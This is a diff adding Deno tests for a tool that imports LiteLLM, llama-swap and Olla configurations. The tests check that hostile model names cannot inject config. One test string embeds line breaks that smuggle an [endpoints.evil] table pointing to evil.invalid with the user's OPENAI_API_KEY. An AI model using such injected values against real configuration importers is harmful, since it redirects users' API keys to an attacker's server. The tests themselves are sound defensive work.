@@ -4,6 +4,7 @@ import { assert, assertEquals, assertRejects, assertStringIncludes } from "@std/
 import { parse } from "smol-toml";
 import { CommandError } from "../../src/cli/command_error.ts";
 import { convert, type ImportedProgram } from "../../src/cli/import/import.ts";
+import { Draft } from "../../src/cli/import/draft.ts";
 import { loadConfig } from "../../src/config/load.ts";
 import { chooseEndpoint, dependsOnModel } from "../../src/routing/choose_endpoint.ts";
 import { match } from "../../src/routing/match.ts";
@@ -17,6 +18,8 @@ import {
   LLAMA_SWAP,
   OLLA,
 } from "../support/data/import_sources.ts";
+import { endpointDifference } from "../../src/cli/import/endpoint_difference.ts";
+import { Source } from "../../src/cli/import/source.ts";
 
 /** Keys in clear in the files of these tests. */
 const IN_CLEAR = /canary-[\w-]+/;
@@ -435,6 +438,12 @@ const UNUSABLE: readonly (readonly [ImportedProgram, string, string])[] = [
     "model_list: [{ model_name: x, litellm_params: { model: openai/x, api_base: 'not a URL', api_key: canary-x } }]",
     "Nothing was written: the configuration would be invalid.",
   ],
+  [
+    "llama-swap",
+    '{ models: { a: { proxy: "http://127.0.0.1:9", useModelName: "b\\nc" } } }',
+    "contains a line break",
+  ],
+  ["olla", OLLA.replace('"llama3.2:3b"', '"a\\0b"'), "contains a line break"],
 ];
 for (const [program, file, message] of UNUSABLE) {
   Deno.test(`import: an error without values of the file: ${message}`, async () => {
@@ -442,3 +451,158 @@ for (const [program, file, message] of UNUSABLE) {
     assertEquals(IN_CLEAR.exec(error.message), null);
   });
 }
+
+/** Ends a comment, if the import copies the line break, and gives the key of the user to another server. */
+const INJECTED = (end: string) =>
+  `good${end}[endpoints.evil]${end}provider = "generic"${end}base_url = "http://evil.invalid"${end}api_key = "\${OPENAI_API_KEY}"${end}#`;
+
+/** Files in which a name tries to become configuration. */
+const HOSTILE: readonly (readonly [ImportedProgram, (name: string) => string])[] = [
+  ["litellm", (name) =>
+    JSON.stringify({
+      model_list: [
+        {
+          model_name: name,
+          litellm_params: { model: "openai/gpt-4o", api_key: "os.environ/OPENAI_API_KEY" },
+        },
+        { model_name: name, litellm_params: { model: "anthropic/x", api_key: "canary-key" } },
+      ],
+      [name]: { [name]: 1 },
+      router_settings: { model_group_alias: { [name]: "x", [`${name}3`]: name } },
+    })],
+  ["llama-swap", (name) =>
+    JSON.stringify({
+      models: { [name]: { proxy: "http://127.0.0.1:9", [name]: 1 } },
+      peers: { [name]: { proxy: "http://127.0.0.1:8", apiKey: "canary-key", models: [name] } },
+    })],
+  ["olla", (name) =>
+    JSON.stringify({
+      discovery: {
+        static: {
+          endpoints: [{
+            url: "http://127.0.0.1:9",
+            name,
+            type: "ollama",
+            auth: { type: "bearer", token: "canary-key" },
+            [name]: 1,
+          }],
+        },
+      },
+    })],
+];
+for (const [program, file] of HOSTILE) {
+  Deno.test(`import ${program}: line breaks and control characters in names stay out of comments and notes`, async () => {
+    for (const end of ["\n", "\r\n", "\r", "\u0085", "\u2028", "\0", "\x1b[2J", "\u202e"]) {
+      const { text, notes, draft } = await convert(program, `a${INJECTED(end)}.yaml`, file(INJECTED(end)));
+      const { endpoints = {} }: Record<string, Record<string, unknown>> = JSON.parse(
+        JSON.stringify(parse(text)),
+      );
+      assertEquals(Object.keys(endpoints).toSorted(), draft.endpoints.map(({ name }) => name).toSorted());
+      assertEquals(/[\p{C}\p{Zl}\p{Zp}]/u.exec((text + notes.join("")).replaceAll("\n", "")), null);
+      assertEquals(text.split("\n").filter((line) => line.startsWith("[endpoints.evil")), []);
+    }
+  });
+}
+
+Deno.test("import: long names make no long columns", async () => {
+  const models = Object.fromEntries(
+    ["x".repeat(100_000), ...Array.from({ length: 200 }, (_, index) => `m${index}`)].map((
+      name,
+    ) => [name, { proxy: "http://127.0.0.1:9" }]),
+  );
+  const { text } = await convert("llama-swap", "other.yaml", JSON.stringify({ models }));
+  assert(text.length < 300_000, `${text.length} characters`);
+});
+
+Deno.test("import: the result must have the endpoints, addresses and keys of the draft", async () => {
+  const draft = new Draft();
+  const api_key = draft.variable("KEY_A", "the key of a");
+  draft.endpoints.push({
+    name: "a",
+    provider: "generic",
+    backends: [{ base_url: "http://a.test/v1/", api_key }],
+    served: [],
+  });
+  const values: Readonly<Record<string, string>> = { KEY_A: "the-key-of-a-here", KEY_B: "the-key-of-b-here" };
+  const get = (name: string) => values[name];
+  const difference = async (lines: string): Promise<string | undefined> => {
+    const { config } = await loadConfig({
+      get,
+      readTextFile(path) {
+        if (path === "config.toml") return `[auth]\ntoken = "token-of-the-clients"\n${lines}`;
+        throw new Deno.errors.NotFound(path);
+      },
+    });
+    return endpointDifference(draft, config.endpoints, get);
+  };
+  const table = (name: string, url: string, key: string) =>
+    `[endpoints.${name}]\nprovider = "generic"\nbase_url = "${url}"\napi_key = "${key}"\n`;
+  const right = table("a", "http://a.test/v1", "${KEY_A}");
+  assertEquals(await difference(right), undefined);
+  assertEquals(
+    await difference(right + table("evil", "http://evil.test", "${KEY_A}")),
+    "its endpoints would be a, evil in place of a",
+  );
+  const changed = "the endpoint a would have other addresses or keys";
+  assertEquals(await difference(table("a", "http://evil.test/v1", "${KEY_A}")), changed);
+  assertEquals(await difference(table("a", "http://a.test/v2", "${KEY_A}")), changed);
+  assertEquals(await difference(table("a", "http://a.test/v1", "${KEY_B}")), changed);
+  assertEquals(await difference(table("a", "http://a.test/v1", "none")), changed);
+});
+
+Deno.test("import llama-swap: macros that grow without end are an error", async () => {
+  const macros = Object.fromEntries(
+    Array.from({ length: 10 }, (_, index) => [
+      `m${index}`,
+      index === 9 ? "AAAAAAAAAA" : `\${m${index + 1}}`.repeat(12),
+    ]),
+  );
+  const long = "x".repeat(50_000);
+  const cases = [
+    { macros, models: { m: { cmd: "${m0}", proxy: "http://127.0.0.1:9" } } },
+    { models: { m: { macros, cmd: "${m0}", proxy: "http://127.0.0.1:9" } } },
+    { models: { [long]: { proxy: "http://127.0.0.1:9/${MODEL_ID}${MODEL_ID}" } } },
+    {
+      macros: { long },
+      models: Object.fromEntries(
+        Array.from({ length: 300 }, (_, index) => [`m${index}`, { cmd: "${long}" }]),
+      ),
+    },
+  ];
+  for (const file of cases) {
+    await assertRejects(
+      () => convert("llama-swap", "other.yaml", JSON.stringify(file)),
+      CommandError,
+      "Nothing was written: the macros of the file expand to more than ",
+    );
+  }
+});
+
+Deno.test("import: the notes of a wide file take less time than the parser", () => {
+  const file = JSON.stringify(Array.from({ length: 10_000 }, () => ({ name: "n", more: { x: 1 } })));
+  const start = performance.now();
+  const source = new Source("other.yaml", file);
+  const parsed = performance.now();
+  for (const item of source.root.items()) {
+    item.key("name").text();
+    item.key("more").key("x").text();
+  }
+  assertEquals(source.notes(), []);
+  const [parsing, noting] = [parsed - start, performance.now() - parsed];
+  assert(noting < parsing, `${noting} ms, and ${parsing} ms for the parser`);
+});
+
+Deno.test("import: each of many endpoints gets a free name in the same time", () => {
+  const draft = new Draft();
+  const start = performance.now();
+  for (let index = 0; index < 8_000; index++) {
+    const name = draft.freeName(index % 2 === 0 ? "same" : `other${index}`);
+    draft.endpoints.push({ name, provider: "generic", backends: [], served: [] });
+  }
+  const took = performance.now() - start;
+  assertEquals(draft.endpoints.slice(0, 4).map(({ name }) => name), ["same", "other1", "same-2", "other3"]);
+  assertEquals(new Set(draft.endpoints.map(({ name }) => name)).size, 8_000);
+  assertEquals([draft.freeName("SAME"), draft.freeName("openai")], ["SAME-4001", "openai-2"]);
+  assertEquals(draft.freeName("openai", { isUsual: true }), "openai");
+  assert(took < 500, `${took} ms`);
+});
